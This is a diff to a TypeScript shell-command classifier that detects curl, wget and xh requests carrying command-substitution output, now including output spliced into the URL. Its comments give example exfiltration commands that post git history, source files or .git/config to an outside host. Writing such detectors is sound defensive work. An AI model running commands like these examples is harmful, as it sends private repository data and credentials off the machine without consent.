@@ -1,7 +1,8 @@
 import { ownEntry } from "../../core/index.ts";
 /**
  * A command substitution's output sent as a request's data (docs/adr/0401): `curl -d "$(git log -p)" URL`, `wget
- * --post-data="$(cat src/app.py)" URL`, `xh post URL body="$(base64 < notes.txt)"`. The data is whatever the
+ * --post-data="$(cat src/app.py)" URL`, `xh post URL body="$(base64 < notes.txt)"`, or spliced into the URL itself
+ * (`curl "https://h/?q=$(cat .git/config)"`, docs/adr/0808). The data is whatever the
  * substitution prints; when a command in it reads local data (a file, the repository, the environment, unknown
  * code), that data leaves the machine. A substitution that prints only what it is told (`$(date +%s)`, `$(jq -n
  * …)`, `$(cat <<EOF … EOF)`) sends nothing of the machine's.
@@ -10,6 +11,7 @@ import type { SimpleCommand } from "../shell/index.ts";
 import type { CommandEffect } from "./classify-command.ts";
 import { commandWords } from "./command-words.ts";
 import { programKnowledge } from "./knowledge/index.ts";
+import { isLocalUrl } from "./sent-content.ts";
 
 /** The options whose value is a request's data, headers or form fields. */
 const DATA_OPTIONS: Readonly<Record<string, readonly string[]>> = {
@@ -58,7 +60,12 @@ export function sendsSubstitution(cmd: SimpleCommand): boolean {
   if (program === undefined) return false;
   const w = commandWords(cmd, program);
   const options = ownEntry(DATA_OPTIONS, cmd.program);
-  if (options !== undefined) return options.some((o) => (w.options.get(o) ?? []).some((v) => SUBSTITUTION.test(v)));
+  // A URL carries what is spliced into it as much as a body does: `curl "https://h/?q=$(cat .git/config)"`.
+  if (options !== undefined)
+    return (
+      [...options, "--url"].some((o) => (w.options.get(o) ?? []).some((v) => SUBSTITUTION.test(v))) ||
+      w.positionals.some((v) => SUBSTITUTION.test(v) && !isLocalUrl(v.split(SUBSTITUTION)[0]!))
+    );
   if (!ITEM_CLIENTS.has(cmd.program)) return false;
   const start = METHOD.test(w.positionals[0] ?? "") ? 2 : 1;
   return w.positionals.slice(start).some((v) => SUBSTITUTION.test(v));
